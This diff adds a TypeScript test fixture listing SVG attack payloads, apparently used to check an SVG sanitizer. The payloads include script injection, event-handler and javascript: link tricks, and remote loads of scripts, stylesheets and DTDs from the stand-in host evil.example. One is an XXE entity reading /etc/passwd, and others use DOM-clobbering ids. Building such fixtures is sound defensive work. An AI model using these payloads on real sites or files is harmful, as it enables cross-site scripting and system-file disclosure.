@@ -1,0 +1,45 @@
+const space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" width="90" height="90"'
+const drawing = (inside: string, more = ''): string => `<svg ${space}${more}>${inside}<path d="M0 0h9v9z"/></svg>`
+const page = '&lt;script&gt;alert(1)&lt;/script&gt;'
+
+/** Drawings that try to act when they are opened, or stood inside a page. */
+export const svgAttacks: readonly string[] = [
+  drawing('<script>alert(1)</script>'),
+  drawing('<script><![CDATA[alert(1)]]></script>'),
+  drawing('<script href="//evil.example/x.js"/>'),
+  drawing('<script type="text/ecmascript" xlink:href="data:text/javascript,alert(1)"/>'),
+  drawing('', ' onload="alert(1)"'),
+  drawing('<rect width="9" height="9" onclick="alert(1)" onmouseover="alert(1)"/>'),
+  drawing('<image href="x:x" onerror="alert(1)"/>'),
+  drawing('<image href="//evil.example/x.png" width="9" height="9"/>'),
+  drawing('<feImage href="//evil.example/x.png"/>'),
+  drawing(`<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${page}"/></foreignObject>`),
+  drawing('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
+  drawing('<foreignObject><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></foreignObject>'),
+  drawing('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
+  `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9" height="9"><s:script>alert(1)</s:script></s:svg>`,
+  drawing('<a href="javascript:alert(1)"><text y="9">x</text></a>'),
+  drawing('<a xlink:href="javascript:alert(1)"><text y="9">x</text></a>'),
+  drawing('<a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>'),
+  drawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
+  drawing('<set attributeName="onmouseover" to="alert(1)"/>'),
+  drawing('<use href="//evil.example/x.svg#x"/>'),
+  drawing(
+    '<use href="data:image/svg+xml,&lt;svg xmlns=&apos;http://www.w3.org/2000/svg&apos; id=&apos;x&apos; onload=&apos;alert(1)&apos;/&gt;#x"/>',
+  ),
+  drawing('<style>@import "//evil.example/x.css";</style>'),
+  drawing('<style>path{fill:url(//evil.example/x.svg#x)}</style>'),
+  drawing('<style>path{background:u\\72l(//evil.example/x)}</style>'),
+  drawing('<path d="M0 0h1v1z" style="fill:url(//evil.example/x.svg#x)"/>'),
+  drawing('<path d="M0 0h1v1z" fill="url(//evil.example/x.svg#x)"/>'),
+  `<?xml-stylesheet href="//evil.example/x.css"?>${drawing('')}`,
+  `<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>${drawing('')}`,
+  `<!DOCTYPE svg [<!ENTITY x "&lt;script xmlns='http://www.w3.org/2000/svg'&gt;alert(1)&lt;/script&gt;">]>${drawing('&x;')}`,
+  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text y="9">&x;</text>')}`,
+  `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${drawing('')}`,
+  drawing('<title><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></title>'),
+  drawing('<desc>]]&gt;&lt;img src=x onerror=alert(1)&gt;</desc>'),
+  drawing('<handler xmlns="http://www.w3.org/2001/xml-events" event="load">alert(1)</handler>'),
+  drawing('<text y="9">&lt;/svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>'),
+  drawing('<path id="location" d="M0 0h1v1z"/><g id="body"/>'),
+]
